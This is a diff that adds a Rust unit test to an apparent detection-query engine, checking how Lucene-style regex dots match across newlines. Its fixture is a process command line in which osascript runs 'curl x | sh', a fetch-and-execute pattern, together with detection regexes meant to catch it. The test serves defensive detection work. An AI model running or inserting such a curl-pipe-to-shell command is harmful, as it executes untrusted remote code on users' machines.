@@ -543,3 +543,19 @@ fn fields_as_function_arguments_and_numbers_against_keywords() {
         ],
     );
 }
+
+/// Lucene's `.` is any character, a newline too: a multi-line
+/// `osascript -e` script is one value a regex walks across.
+#[test]
+fn regex_dot_matches_a_newline_as_in_lucene() {
+    let mut e = shell();
+    e.process.command_line = Some("osascript -e 'do shell script\n\"curl x | sh\"'".into());
+    check_table(
+        &e,
+        &[
+            (r#"process.command_line regex "osascript -e .*curl.*""#, T),
+            (r#"process.command_line regex "osascript -e [^\n]*curl.*""#, F),
+            (r#"process.command_line regex~ "OSASCRIPT .*SH.*""#, T),
+        ],
+    );
+}
